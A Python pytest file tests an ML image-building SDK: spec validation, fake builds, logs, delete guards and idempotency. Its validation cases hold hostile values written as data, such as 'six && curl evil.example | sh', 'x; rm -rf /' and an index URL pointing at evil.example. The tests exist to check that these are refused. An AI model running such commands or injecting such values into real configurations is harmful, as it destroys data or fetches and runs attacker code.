"""The Image SDK with a fake builder: validation before anything is created, the registry, the
build driver (activity, log, failure), delete and the model in-use guard."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from airflow_aml.entities import ActivityStatus, ImageStatus, Role
from airflow_aml.exceptions import (
    ArtifactNotFoundError,
    AuthorizationError,
    ConflictError,
    ImageBuildError,
    ImageNotFoundError,
    InvalidNameError,
    ModelNotFoundError,
    ValidationError,
)
from airflow_aml.images import Image, ImageSpec, image_builder_kinds
from airflow_aml.images.worker import PROP_BUILD_HOST, PROP_BUILD_PID, PROP_BUILD_PROCESS
from airflow_aml.store import get_store
from airflow_aml.workspace import Workspace
from tests.unit.images.conftest import FakeBuilder
from tests.unit.store.helpers import dump_tables

IMAGE_TABLES = ("images", "image_names", "image_models", "image_attributes")


def _spec(source: Path, **fields: Any) -> dict[str, Any]:
    return {"models": ["m"], "source_directory": str(source), "entry_script": "score.py", **fields}


def _nothing_created(ws: Workspace, aml_home: Path) -> None:
    tables = dump_tables(get_store(ws.store_uri))  # type: ignore[arg-type]
    assert {table: tables[table] for table in IMAGE_TABLES} == {table: [] for table in IMAGE_TABLES}
    assert ws.list_activities(kind="image_build") == []
    assert not (aml_home / "images").exists()
    assert not list(ws.get_default_datastore().list("images/"))


@pytest.mark.parametrize(
    ("change", "error", "message"),
    [
        ({"pip": ["six\nrm -rf /"]}, ValidationError, "pip: .* is not a package requirement"),
        ({"pip": ["--index-url=https://evil.example"]}, ValidationError, "is not a package requirement"),
        ({"pip": ["six && curl evil.example | sh"]}, ValidationError, "is not a package requirement"),
        ({"builtin_scorer": "sklearn"}, ValidationError, "exactly one of entry_script"),
        ({"entry_script": "nope.py"}, ValidationError, "entry_script 'nope.py' not found in source_directory"),
        ({"entry_script": "notes.tmp"}, ValidationError, "excluded from source_directory .* by its .amlignore"),
        ({"source_directory": "/no/such/folder"}, ValidationError, "source_directory '/no/such/folder' does not"),
        ({"models": ["m:9"]}, ModelNotFoundError, "Image 'img': Model 'm' version 9 not found in workspace 'ws'"),
        ({"models": ["ghost"]}, ModelNotFoundError, "Image 'img': Model 'ghost' not found in workspace 'ws'"),
        ({"conda_file": "env.yml"}, ValidationError, "conda file .*env.yml' does not exist"),
        ({"extra_files": ["/no/such/file"]}, ValidationError, "extra file '/no/such/file' does not exist"),
        ({"base_image": "x; rm -rf /"}, ValidationError, "not a Docker image reference"),
    ],
)
def test_refused_specs_leave_nothing_created(
    ws: Workspace, source: Path, aml_home: Path, fake_builder: type[FakeBuilder],
    change: dict[str, Any], error: type[Exception], message: str,
) -> None:
    with pytest.raises(error, match=message) as caught:
        ws.create_image("img", _spec(source, **change), builder="fake")
    assert "'img'" in str(caught.value)
    _nothing_created(ws, aml_home)
    assert fake_builder.calls == []
    assert ws.create_image("img", _spec(source), builder="fake").version == 1  # no number was taken


@pytest.mark.parametrize(
    ("conda", "message"),
    [
        ("dependencies:\n  - pip: ['-e .']\n", "Invalid requirement"),
        ("dependencies:\n  - pip: ['numpy; rm -rf /']\n", "not a package requirement"),
        ("dependencies:\n  - python>=3.10\n", "asks for python '>=3.10'; an image needs an exact version"),
        ("- not a mapping\n", "must hold a mapping"),
    ],
)
def test_bad_conda_files_are_refused(
    ws: Workspace, source: Path, aml_home: Path, fake_builder: type[FakeBuilder], conda: str, message: str
) -> None:
    (source / "env.yml").write_text(conda)
    with pytest.raises(ValidationError, match=message) as caught:
        ws.create_image("img", _spec(source, conda_file="env.yml"), builder="fake")
    assert "Image 'img'" in str(caught.value) and "env.yml" in str(caught.value)
    _nothing_created(ws, aml_home)


def test_other_refusals(ws: Workspace, source: Path, aml_home: Path, store_uri: str) -> None:
    with pytest.raises(ValidationError, match="Unknown image builder 'nope'; valid: .*local"):
        ws.create_image("img", _spec(source), builder="nope")
    with pytest.raises(InvalidNameError, match="image"):
        ws.create_image("../img", _spec(source))
    ws.assign_role("bob", Role.READER)
    reader = Workspace.get("ws", store_uri=store_uri, principal="bob")
    with pytest.raises(AuthorizationError, match="'bob' \\(Reader\\) may not write"):
        reader.create_image("img", _spec(source))
    _nothing_created(ws, aml_home)
    assert "local" in image_builder_kinds()


def test_create_builds_and_records_everything(
    ws: Workspace, source: Path, aml_home: Path, fake_builder: type[FakeBuilder], monkeypatch: pytest.MonkeyPatch
) -> None:
    (source / "env.yml").write_text("dependencies:\n  - python=3.11\n  - pip: [six]\n")
    updates: list[dict[str, Any]] = []
    real_update = ws.store.update_activity

    def spy(activity_id: str, **kwargs: Any) -> Any:
        updates.append(kwargs)
        return real_update(activity_id, **kwargs)

    monkeypatch.setattr(ws.store, "update_activity", spy)
    spec = ImageSpec(**_spec(source, conda_file="env.yml", pip=["attrs"], tags={"team": "a"}, description="d"))
    image = Image.create(ws, "img", spec, builder="fake", tags={"stage": "dev"})

    assert (image.id, image.status, image.error) == ("img:1", ImageStatus.SUCCEEDED, None)
    assert image.model_ids == ["m:1"]  # "m" resolved to its latest version
    assert image.tags == {"team": "a", "stage": "dev"}
    assert image.record.description == "d" and image.record.builder == "fake"
    assert image.digest is not None and image.location == str(aml_home / "images" / "bundles" / image.digest)
    assert image.bundle_path() == Path(image.location)
    assert image.properties["fake.built"] == "yes"
    assert image.properties["aml.datastore"] == "workspaceblobstore"
    assert image.properties[PROP_BUILD_PROCESS] == "inline"
    recorded = image.record.spec
    assert recorded["models"] == ["m:1"] and recorded["source_directory"] == str(source.resolve())
    assert recorded["conda_file"] == str((source / "env.yml").resolve()) and recorded["pip"] == ["attrs"]
    manifest = json.loads((image.bundle_path() / "image.json").read_text())
    assert manifest["requirements"] == ["attrs", "six"] and manifest["python"] == "3.11"
    (bundle, seen), = fake_builder.calls
    assert bundle == image.bundle_path() and seen.status is ImageStatus.BUILDING and seen.id == "img:1"

    activity = image.activity
    assert (activity.kind, activity.target_id, activity.status, activity.progress) == (
        "image_build", "img:1", ActivityStatus.SUCCEEDED, 1.0
    )
    assert activity.message == "Image 'img' version 1 built"
    fractions = [u["progress"] for u in updates]
    assert fractions == sorted(fractions) and len(fractions) >= 6
    assert all(u["message"] for u in updates)
    assert any("Downloading model m:1" in u["message"] for u in updates)
    assert any("Faking an environment" in u["message"] for u in updates)

    log = image.get_build_log()
    assert image.record.build_log_path == "images/img/1/build.log"
    assert "fake builder line 2" in log and "Image 'img' version 1 built" in log
    assert image.record.build_log_tail and log.endswith(image.record.build_log_tail)


def test_a_failing_build_is_recorded(ws: Workspace, source: Path, fake_builder: type[FakeBuilder]) -> None:
    fake_builder.fail_with = RuntimeError("the disk is full")
    with pytest.raises(ImageBuildError, match="Image 'img' version 1 in workspace 'ws' failed to build: "
                                               "RuntimeError: the disk is full") as caught:
        ws.create_image("img", _spec(source), builder="fake")
    assert caught.value.image_id == "img:1"
    image = ws.get_image("img", 1)
    assert image.status is ImageStatus.FAILED and image.error == "RuntimeError: the disk is full"
    assert "ERROR: RuntimeError: the disk is full" in image.get_build_log()
    assert "fake builder line 1" in image.get_build_log()
    activity = image.activity
    assert activity.status is ActivityStatus.FAILED and activity.error == "RuntimeError: the disk is full"
    assert activity.message == "Image build failed: RuntimeError: the disk is full"
    with pytest.raises(ImageBuildError):
        image.wait_for_completion()
    assert image.wait_for_completion(raise_on_error=False).status is ImageStatus.FAILED


def test_get_list_tags_and_workspace_conveniences(
    ws: Workspace, source: Path, model_file: Path, fake_builder: type[FakeBuilder]
) -> None:
    ws.register_model("m", path=model_file)  # m:2
    ws.create_image("a", _spec(source, models=["m:1"], tags={"stage": "dev"}), builder="fake")
    ws.create_image("a", _spec(source, models=["m:2"]), builder="fake")
    ws.create_image("b", _spec(source), builder="fake", tags={"stage": "prod"})  # m:2, the latest

    assert ws.get_image("a").version == 2 and ws.get_image("a", 1).model_ids == ["m:1"]
    assert [i.id for i in ws.list_images()] == ["b:1", "a:2", "a:1"]
    assert [i.id for i in ws.list_images(name="a")] == ["a:2", "a:1"]
    assert [i.id for i in ws.list_images(tags={"stage": "*"})] == ["b:1", "a:1"]
    assert [i.id for i in ws.list_images(model="m:2")] == ["b:1", "a:2"]
    assert [i.id for i in ws.list_images(model=ws.get_model("m", 1))] == ["a:1"]
    assert [i.id for i in ws.list_images(model="m")] == ["b:1", "a:2", "a:1"]
    assert [i.id for i in ws.list_images(latest=True)] == ["b:1", "a:2"]
    assert [i.id for i in Image.list(ws, status="Succeeded", name="b")] == ["b:1"]
    image = ws.get_image("a", 1)
    image.add_tags({"stage": "retired", "owner": "alice"})
    assert image.tags == {"stage": "retired", "owner": "alice"}
    assert ws.get_image("a", 1).tags == image.tags
    with pytest.raises(ImageNotFoundError, match="Image 'a' version 9 not found in workspace 'ws'"):
        ws.get_image("a", 9)
    assert repr(image) == "Image(name='a', version=1, status='Succeeded')"


def test_models_used_by_an_image_cannot_be_deleted(
    ws: Workspace, source: Path, fake_builder: type[FakeBuilder]
) -> None:
    image = ws.create_image("img", _spec(source), builder="fake")
    with pytest.raises(ConflictError, match=r"Model 'm' version 1 is used by an image in workspace 'ws' "
                                            r"\(image 'img' version 1\); delete the image first"):
        ws.get_model("m", 1).delete()
    assert ws.get_model("m", 1).files() == ["model.txt"]  # the files are still there too

    image.delete()
    with pytest.raises(ImageNotFoundError):
        ws.get_image("img", 1)
    assert not list(ws.get_default_datastore().list("images/img/"))  # the build log went with it
    ws.get_model("m", 1).delete()
    assert ws.list_models() == []


def test_delete_is_refused_while_building_or_deployed(
    ws: Workspace, source: Path, fake_builder: type[FakeBuilder]
) -> None:
    record = ws.store.create_image_version(
        "ws", "img", builder="fake", created_by="alice", model_ids=["m:1"], spec={},
        properties={PROP_BUILD_PID: str(os.getpid()), PROP_BUILD_HOST: socket.gethostname(),
                    PROP_BUILD_PROCESS: "inline"},
    )
    building = Image(ws, record)
    with pytest.raises(ConflictError, match="Image 'img' version 1 in workspace 'ws' is still building"):
        building.delete()
    with pytest.raises(ConflictError, match="has no bundle"):
        building.bundle_path()
    with pytest.raises(TimeoutError, match="Image 'img' version 1 still building after 0.1 s"):
        building.wait_for_completion(timeout=0.1, poll_interval=0.02)

    done = ws.create_image("done", _spec(source), builder="fake")
    # A deployment record is all the guard looks at (the store refuses, naming it).
    ws.store.create_deployment("ws", "svc", target="local", image_id="done:1", created_by="alice", config={})
    with pytest.raises(ConflictError, match="Image 'done' version 1 in workspace 'ws' is used by deployment 'svc'"):
        done.delete()
    ws.store.delete_deployment("ws", "svc")
    done.delete()
    assert ws.create_image("done", _spec(source), builder="fake").version == 2  # never reused


def test_a_build_whose_process_died_is_failed_by_whoever_waits(ws: Workspace, source: Path) -> None:
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    record = ws.store.create_image_version(
        "ws", "img", builder="local", created_by="alice", model_ids=["m:1"], spec={},
        properties={PROP_BUILD_PID: dead.stdout.strip(), PROP_BUILD_HOST: socket.gethostname(),
                    PROP_BUILD_PROCESS: "worker"},
    )
    activity = ws.store.create_activity("ws", kind="image_build", target_id="img:1")
    ws.store.update_image("ws", "img", 1, activity_id=activity.activity_id)
    image = Image(ws, record)
    with pytest.raises(ImageBuildError, match=r"The build process \(pid \d+ on .*\) ended before the build did; "
                                              r"see .*worker.log"):
        image.wait_for_completion(timeout=30)
    assert image.status is ImageStatus.FAILED and image.activity.status is ActivityStatus.FAILED
    image.delete()  # a dead build can be deleted


def test_idempotency_key(ws: Workspace, source: Path, fake_builder: type[FakeBuilder]) -> None:
    first = ws.create_image("img", _spec(source), builder="fake", idempotency_key="dag.task.1")
    again = ws.create_image("img", _spec(source), builder="fake", idempotency_key="dag.task.1")
    assert again.id == first.id == "img:1" and len(fake_builder.calls) == 1
    assert ws.create_image("img", _spec(source), builder="fake", idempotency_key="dag.task.2").version == 2
    # A version that Failed is not the result of the call: a retry builds again.
    fake_builder.fail_with = RuntimeError("flaky")
    with pytest.raises(ImageBuildError):
        ws.create_image("img", _spec(source), builder="fake", idempotency_key="dag.task.3")
    fake_builder.fail_with = None
    retried = ws.create_image("img", _spec(source), builder="fake", idempotency_key="dag.task.3")
    assert retried.version == 4 and retried.status is ImageStatus.SUCCEEDED


def test_bundle_path_of_a_bundle_from_elsewhere(ws: Workspace, source: Path, fake_builder: type[FakeBuilder]) -> None:
    import shutil

    image = ws.create_image("img", _spec(source), builder="fake")
    shutil.rmtree(image.bundle_path())
    with pytest.raises(ArtifactNotFoundError, match="The bundle of image 'img' version 1 is not on this machine"):
        image.bundle_path()
